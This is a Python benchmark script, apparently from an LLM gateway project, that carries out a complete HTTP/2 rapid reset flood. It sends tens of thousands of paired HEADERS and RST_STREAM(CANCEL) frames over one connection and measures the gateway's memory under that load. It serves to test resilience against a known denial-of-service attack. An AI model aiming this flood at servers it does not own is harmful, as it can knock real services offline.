#!/usr/bin/env python3
"""HTTP/2 rapid reset against the gateway (issue 16 item 4), stdlib only.

Opens one connection, sends the client preface, then PAIRS of HEADERS (a
gRPC Generate call) + RST_STREAM(CANCEL), as fast as the socket takes them,
while a thread reads and discards what the server sends. Prints pairs/s and,
with --pid, the gateway's RSS (peak during, and --settle seconds after).

  bench/rapid_reset.py --port 50051 --pairs 70000 --pid $(pidof llm_gateway)
"""
import argparse
import socket
import struct
import threading
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """HPACK literal without indexing, name from the static table (4-bit prefix)."""
    out = bytearray()
    if index < 15:
        out.append(index)
    else:
        out += bytes([0x0F, index - 15])
    value = value.encode()
    assert len(value) < 127
    out.append(len(value))
    out += value
    return bytes(out)


def literal_new(name, value):
    out = bytearray([0x00, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return bytes(out)


HEADER_BLOCK = (
    b"\x83"  # :method POST
    + b"\x86"  # :scheme http
    + literal(4, "/llmgateway.v1.Generation/Generate")  # :path
    + literal(1, "gateway")  # :authority
    + literal(31, "application/grpc")  # content-type
    + literal_new("te", "trailers")
)

HEADERS, RST_STREAM, SETTINGS = 0x1, 0x3, 0x4
END_HEADERS = 0x4
CANCEL = 0x8


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def cpu_ticks(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12])  # utime + stime


def wait_idle(pid, limit=120.0):
    """Until the process used no CPU for 2 s (it has read the whole flood)."""
    end = time.time() + limit
    last, still_since = cpu_ticks(pid), time.time()
    while time.time() < end:
        time.sleep(0.5)
        now = cpu_ticks(pid)
        if now - last > 2:  # a few ticks: the trimmer or a timer
            last, still_since = now, time.time()
        elif time.time() - still_since >= 2:
            return
    print("the gateway did not go idle")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--pairs", type=int, default=70000)
    parser.add_argument("--pid", type=int, default=0)
    parser.add_argument("--settle", type=float, default=5.0,
                        help="seconds the connection stays open after the flood")
    parser.add_argument("--after", type=float, default=7.0,
                        help="seconds after the gateway is idle again (its CPU time "
                             "still for 2 s) before the last RSS reading")
    args = parser.parse_args()

    sock = socket.create_connection((args.host, args.port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    done = threading.Event()

    def drain():
        try:
            while not done.is_set():
                if not sock.recv(1 << 16):
                    break
        except OSError:
            pass

    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    peak = rss_kib(args.pid) if args.pid else 0
    before = peak
    start = time.time()
    stream = 1
    batch = []
    sent = 0
    try:
        for i in range(args.pairs):
            batch.append(frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK))
            batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
            stream += 2
            if len(batch) >= 200:
                sock.sendall(b"".join(batch))
                sent += len(batch) // 2
                batch = []
                if args.pid and sent % 2000 == 0:
                    peak = max(peak, rss_kib(args.pid))
        if batch:
            sock.sendall(b"".join(batch))
            sent += len(batch) // 2
    except OSError as e:
        print(f"connection ended after {sent} pairs: {e}")
    elapsed = time.time() - start
    print(f"sent {sent} HEADERS+RST_STREAM pairs in {elapsed:.1f}s ({sent / max(elapsed, 1e-9):.0f}/s)")
    if args.pid:
        end = time.time() + args.settle
        while time.time() < end:
            peak = max(peak, rss_kib(args.pid))
            time.sleep(0.1)
        open_rss = rss_kib(args.pid)
        done.set()
        sock.close()
        wait_idle(args.pid)
        time.sleep(args.after)
        print(f"gateway RSS: before {before // 1024} MiB, peak {peak // 1024} MiB, "
              f"{open_rss // 1024} MiB {args.settle:.0f}s after the flood, "
              f"{rss_kib(args.pid) // 1024} MiB {args.after:.0f}s after it went idle")
    done.set()


if __name__ == "__main__":
    main()
